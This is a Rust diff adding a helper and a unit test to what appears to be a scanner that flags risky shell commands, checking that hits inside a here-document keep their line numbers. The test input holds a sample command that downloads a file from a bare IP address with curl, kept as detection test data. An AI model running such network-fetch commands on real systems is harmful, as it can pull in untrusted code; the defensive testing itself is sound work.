@@ -847,6 +847,29 @@ mod tests {
         ids
     }
 
+    /// (rule id, line) of every hit.
+    fn lines(lang: Lang, src: &str) -> Vec<(String, usize)> {
+        let cat = crate::catalog::get();
+        let mut e = Engine::new(cat);
+        e.run(lang, src, 1, 0);
+        let mut v: Vec<(String, usize)> = e
+            .hits
+            .iter()
+            .map(|h| (cat.rules[h.rule].id.clone(), h.line))
+            .collect();
+        v.sort();
+        v.dedup();
+        v
+    }
+
+    #[test]
+    fn commands_in_a_here_doc_keep_their_own_line_numbers() {
+        let src = "set -e\nsh <<'EOF'\necho start\ncurl -o /tmp/a http://203.0.113.9/a\nEOF\n";
+        let got = lines(Lang::Sh, src);
+        assert!(got.contains(&("curl".to_string(), 4)), "{got:?}");
+        assert!(got.iter().all(|(_, l)| *l == 4), "{got:?}");
+    }
+
     #[test]
     fn obfuscated_sh_is_seen_through() {
         for src in [
